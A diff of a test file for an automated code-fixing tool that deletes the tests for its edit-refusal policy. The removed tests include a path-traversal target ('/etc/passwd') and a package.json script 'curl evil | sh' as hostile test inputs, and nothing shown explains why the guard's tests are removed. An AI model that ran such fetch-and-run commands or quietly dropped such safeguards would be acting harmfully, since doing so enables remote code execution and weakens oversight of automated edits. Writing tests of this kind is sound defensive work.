@@ -1,6 +1,5 @@
 import { checkRegressions } from '../src/fix/check-regressions.js';
 import { decideConvergence } from '../src/fix/decide-convergence.js';
-import { editRefusal } from '../src/fix/edit-policy.js';
 import { editBetween } from '../src/fix/file-edit.js';
 import { shiftLines } from '../src/fix/shift-lines.js';
 import { suggestionFromEdits } from '../src/fix/suggestion-from-edit.js';
@@ -27,28 +26,6 @@ describe('editBetween', () => {
 
   it('returns nothing for identical texts', () => {
     expect(editBetween('f.ts', 'same\n', 'same\n')).toBeUndefined();
-  });
-});
-
-describe('editRefusal', () => {
-  const context = { changedPaths: new Set(['src/a.ts', '.github/workflows/ci.yml', 'package-lock.json', 'package.json', '.github/sextant.yml', '.npmrc']), configFile: '.github/sextant.yml' };
-  it.each([
-    ['.github/workflows/ci.yml', 'protected'],
-    ['package-lock.json', 'protected'],
-    ['.npmrc', 'protected'],
-    ['.github/sextant.yml', 'Sextant config'],
-    ['src/other.ts', 'not part of the change'],
-    ['../outside.ts', 'leaves the repository'],
-    ['/etc/passwd', 'leaves the repository'],
-  ])('refuses an edit to %s', (path, reason) => {
-    expect(editRefusal(path, 'a', 'b', context)).toMatch(reason);
-  });
-
-  it('allows a changed source file, and package.json unless its scripts change', () => {
-    expect(editRefusal('src/a.ts', 'a', 'b', context)).toBeUndefined();
-    const before = JSON.stringify({ name: 'x', version: '1.0.0', scripts: { test: 'jest' } });
-    expect(editRefusal('package.json', before, JSON.stringify({ name: 'x', version: '1.0.1', scripts: { test: 'jest' } }), context)).toBeUndefined();
-    expect(editRefusal('package.json', before, JSON.stringify({ name: 'x', scripts: { test: 'curl evil | sh' } }), context)).toMatch(/scripts/);
   });
 });
 
